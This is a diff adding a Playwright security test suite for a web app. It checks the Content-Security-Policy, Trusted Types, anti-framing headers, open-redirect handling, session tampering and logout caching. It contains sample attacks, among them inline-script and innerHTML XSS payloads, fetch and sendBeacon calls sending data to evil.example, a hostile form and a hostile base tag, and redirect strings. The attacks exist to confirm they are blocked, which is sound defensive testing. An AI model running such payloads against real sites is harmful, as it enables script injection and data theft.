@@ -1,0 +1,346 @@
+import { readFileSync } from 'node:fs'
+import type { Page } from '@playwright/test'
+import { appPath, expect, signIn, test } from './fixtures'
+
+/** A page that is open to everybody and has no error on its console. */
+const openSheet = async (page: Page) => {
+  await page.goto(appPath('/bgs/calendar/p26all'))
+  await expect(page.getByRole('table', { name: /october 2025/i })).toBeVisible()
+}
+
+test('[check 6] the build carries its policy, and no directive of it is unsafe', async ({
+  page,
+  request,
+}) => {
+  const html = readFileSync('dist/index.html', 'utf8')
+  const [, policy = ''] =
+    /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html) ?? []
+  expect(policy).toContain('default-src &#39;none&#39;')
+  expect(policy).toContain('require-trusted-types-for &#39;script&#39;')
+  expect(policy).not.toMatch(/unsafe-|\*|http:/)
+  // Before anything it is to govern.
+  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.search(/<script|<link/))
+
+  const answer = await request.get(appPath('/bgs/game-plans'))
+  expect(answer.headers()).toMatchObject({
+    'content-security-policy': "frame-ancestors 'none'",
+    'x-content-type-options': 'nosniff',
+    'x-frame-options': 'DENY',
+    'referrer-policy': 'strict-origin-when-cross-origin',
+  })
+  await openSheet(page)
+})
+
+/** What an injected text might try, and the directive that has to stop it. */
+const attempts: { name: string; directive: string; run: () => unknown }[] = [
+  {
+    name: 'an inline script',
+    directive: 'require-trusted-types-for',
+    run: () => {
+      const script = document.createElement('script')
+      script.append('window.pwned = true')
+      document.body.append(script)
+    },
+  },
+  {
+    name: 'a script of another host',
+    directive: 'require-trusted-types-for',
+    run: () => {
+      const script = document.createElement('script')
+      script.src = 'https://evil.example/x.js'
+      document.body.append(script)
+    },
+  },
+  {
+    name: 'markup through innerHTML',
+    directive: 'require-trusted-types-for',
+    run: () => {
+      document.body.innerHTML = '<img src="x" onerror="window.pwned = true">'
+    },
+  },
+  {
+    name: 'markup through document.write',
+    directive: 'require-trusted-types-for',
+    run: () => document.write('<script>window.pwned = true</script>'),
+  },
+  {
+    name: 'a policy of its own',
+    directive: 'trusted-types',
+    run: () =>
+      (
+        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
+      ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
+  },
+  {
+    name: 'eval',
+    directive: 'script-src|require-trusted-types-for',
+    run: () => {
+      // What the test itself calls may evaluate; what the page does later may not.
+      // biome-ignore lint/security/noGlobalEval: it has to be refused
+      setTimeout(() => window.eval('window.pwned = true'))
+    },
+  },
+  {
+    name: 'a style element',
+    directive: 'style-src-elem',
+    run: () => {
+      const style = document.createElement('style')
+      style.append('#root { display: none }')
+      document.head.append(style)
+    },
+  },
+  {
+    name: 'a style attribute',
+    directive: 'style-src-attr',
+    run: () => document.getElementById('root')?.setAttribute('style', 'display: none'),
+  },
+  {
+    name: 'a call to another host',
+    directive: 'connect-src',
+    run: () => fetch('https://evil.example/?what=was-read'),
+  },
+  {
+    name: 'a beacon to another host',
+    directive: 'connect-src',
+    run: () => navigator.sendBeacon('https://evil.example/', 'what was read'),
+  },
+  {
+    name: 'a picture over http',
+    directive: 'img-src',
+    run: () => {
+      new Image().src = 'http://evil.example/x.png'
+    },
+  },
+  {
+    name: 'a frame',
+    directive: 'frame-src',
+    run: () => {
+      const frame = document.createElement('iframe')
+      frame.src = 'https://evil.example/'
+      document.body.append(frame)
+    },
+  },
+  {
+    name: 'another base for every address',
+    directive: 'base-uri',
+    run: () => {
+      const base = document.createElement('base')
+      base.href = 'https://evil.example/'
+      document.head.append(base)
+    },
+  },
+  {
+    name: 'a form to another host',
+    directive: 'form-action',
+    run: () => {
+      const form = document.createElement('form')
+      form.action = 'https://evil.example/'
+      document.body.append(form)
+      form.submit()
+    },
+  },
+]
+
+test('[check 6] whatever is injected is stopped and reported', async ({ page, watch }) => {
+  watch.allowConsole(/Content Security Policy|Trusted|policy|violat/i)
+  for (const { name, directive, run } of attempts) {
+    await test.step(name, async () => {
+      await openSheet(page)
+      await page.evaluate(() => {
+        const store = window as unknown as { stopped: string[] }
+        store.stopped = []
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+          store.stopped.push(effectiveDirective),
+        )
+      })
+      // A refusal may throw or be silent; what counts is the report and that nothing happened.
+      await page.evaluate(run).catch(() => {})
+      await expect
+        .poll(() =>
+          page.evaluate(() => (window as unknown as { stopped: string[] }).stopped.join(' ')),
+        )
+        .toMatch(new RegExp(`^(${directive})`))
+      expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+      await expect(page.getByRole('table', { name: /october 2025/i })).toBeVisible()
+    })
+  }
+  expect(watch.foreign).toEqual([])
+})
+
+test('[check 6] no other page can frame the app', async ({ page, watch }) => {
+  watch.allowConsole(/frame/i)
+  await page.route('**/outer.html', (route) =>
+    route.fulfill({ contentType: 'text/html', body: '<iframe src="/game-plans/"></iframe>' }),
+  )
+  await page.goto('/outer.html')
+  await expect.poll(() => page.frames().length).toBe(2)
+  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Sign In' })).toHaveCount(0)
+  expect(page.frames()[1]?.url()).not.toContain('/game-plans/')
+})
+
+test('[check 3] a page in a new tab knows nothing of the one it came from', async ({
+  page,
+  context,
+}) => {
+  await context.route(/\.pdf$/, (route) =>
+    route.fulfill({ contentType: 'text/html', body: '<title>A file</title>' }),
+  )
+  await signIn(page, 'bgs@example.com')
+  await page.goto(appPath('/bgs/game-plans'))
+  const links = page.locator('a[target=_blank]')
+  await expect(links.first()).toBeVisible()
+  const count = await links.count()
+  expect(count).toBeGreaterThan(3)
+  for (const link of await links.all()) await expectNoOpener(page, () => link.click())
+
+  await page.getByRole('button', { name: 'Public links' }).first().click()
+  const dialog = page.getByRole('dialog')
+  for (const link of await dialog.getByRole('link').all()) {
+    await expectNoOpener(page, () => link.click())
+  }
+})
+
+async function expectNoOpener(page: Page, click: () => Promise<void>): Promise<void> {
+  const opened = page.context().waitForEvent('page')
+  await click()
+  const tab = await opened
+  await tab.waitForLoadState()
+  expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, ''])
+  await tab.close()
+}
+
+test('[check 15] an address that looks like another host is a page not found', async ({
+  page,
+  app,
+  watch,
+}) => {
+  watch.allowConsole(/status of 404/)
+  for (const path of [
+    '//evil.example/A',
+    '/%2f%2fevil',
+    '/%5c%5cevil',
+    '/%09/evil.example',
+    '/%2e%2e//evil',
+  ]) {
+    await test.step(path, async () => {
+      const answer = await page.goto(`${app.url}/game-plans${path}`)
+      const { origin, pathname } = new URL(page.url())
+      expect(origin).toBe(app.url)
+      // What leads out of the app is the host's to refuse.
+      if (!pathname.startsWith('/game-plans')) expect(answer?.status()).toBe(404)
+      else await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible()
+    })
+  }
+})
+
+test('[check 19] upper case and a last slash get nobody past the sign-in', async ({
+  page,
+  app,
+}) => {
+  for (const path of [
+    '/Bruins-Games',
+    '/DASHBOARD/',
+    '/bgs/GAME-PLANS',
+    '/Register/',
+    '/USERS//',
+  ]) {
+    await test.step(path, async () => {
+      await page.goto(appPath(path))
+      await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
+      await expect(page).toHaveURL(/\/game-plans\/?$/)
+    })
+  }
+  expect(app.api.log.filter(({ path }) => !path.includes('check-session'))).toEqual([])
+})
+
+for (const query of ['?next=https://evil.example', '?redirect=//evil.example', '?from=/%5cevil']) {
+  test(`[check 20] signing in at ${query} leads to the dashboard`, async ({ page, app }) => {
+    await page.goto(appPath(`/${query}`))
+    await page.getByLabel('Email').fill('bgs@example.com')
+    await page.getByLabel('Password', { exact: true }).fill('password')
+    await page.getByRole('button', { name: 'Sign In' }).click()
+    await expect(page.getByRole('heading', { name: 'Admin Dashboard' })).toBeVisible()
+    expect(page.url()).toBe(`${app.url}${appPath('/dashboard')}`)
+  })
+}
+
+const tampered = ['9999999999', 'abc', '-1', '', '1e999', '1893456000000', 'null', '{}']
+
+test('[check 27] an expiration somebody wrote himself opens nothing', async ({ page, app }) => {
+  for (const value of tampered) {
+    await test.step(`'${value}'`, async () => {
+      await page.goto(appPath('/'))
+      await page.evaluate((text) => localStorage.setItem('sessionExpiration', text), value)
+      await page.goto(appPath('/bruins-games'))
+      await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
+      await expect(page.getByRole('button', { name: 'Logout' })).toHaveCount(0)
+    })
+  }
+  expect(app.api.log.filter(({ path }) => !path.includes('check-session'))).toEqual([])
+})
+
+test('[check 27] with a session, it never shows as a negative time or as none at all', async ({
+  page,
+}) => {
+  for (const value of ['abc', '', '1e999', 'null', '{}']) {
+    await test.step(`'${value}'`, async () => {
+      await page.goto(appPath('/'))
+      await page.evaluate(() => localStorage.removeItem('signedOut'))
+      await page.context().clearCookies()
+      await signIn(page, 'bgs@example.com')
+      await page.evaluate((text) => localStorage.setItem('sessionExpiration', text), value)
+      await page.reload()
+      await expect(page.getByRole('heading', { name: 'Admin Dashboard' })).toBeVisible()
+      await expect(page.getByText(/NaN|Infinity|undefined|-\d+ ?h/)).toHaveCount(0)
+    })
+  }
+})
+
+test('[check 34] Back after Logout shows Sign In', async ({ page }) => {
+  await signIn(page, 'admin@example.com')
+  await page.getByRole('link', { name: 'Users', exact: true }).click()
+  await expect(page.getByText('guest@example.com')).toBeVisible()
+  await page.getByRole('button', { name: 'Logout' }).click()
+  await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
+  await page.goBack()
+  await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
+  await expect(page.getByText('guest@example.com')).toHaveCount(0)
+})
+
+test('[check 34] a page that the browser kept asks again who is signed in', async ({
+  page,
+  context,
+}) => {
+  await signIn(page, 'admin@example.com')
+  await page.getByRole('link', { name: 'Users', exact: true }).click()
+  await expect(page.getByText('guest@example.com')).toBeVisible()
+  await context.clearCookies()
+  await page.evaluate(() =>
+    window.dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true })),
+  )
+  await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
+  await expect(page.getByText('guest@example.com')).toHaveCount(0)
+})
+
+test('[check 80] closing the tab asks when something is typed, and only then', async ({ page }) => {
+  await signIn(page, 'bgs@example.com')
+  await page.goto(appPath('/bgs/game-plans'))
+  await page.getByRole('button', { name: 'Add New Plan' }).click()
+  const field = page.getByRole('dialog').getByLabel('Plan Event Title')
+  await field.click()
+  const questions: string[] = []
+  page.on('dialog', (question) => {
+    questions.push(question.type())
+    void question.dismiss()
+  })
+  await field.fill('Not saved yet')
+  await page.close({ runBeforeUnload: true })
+  await expect.poll(() => questions).toEqual(['beforeunload'])
+  await expect(field).toHaveValue('Not saved yet')
+
+  await field.fill('')
+  const closed = page.waitForEvent('close')
+  await page.close({ runBeforeUnload: true })
+  await closed
+  expect(questions).toHaveLength(1)
+})
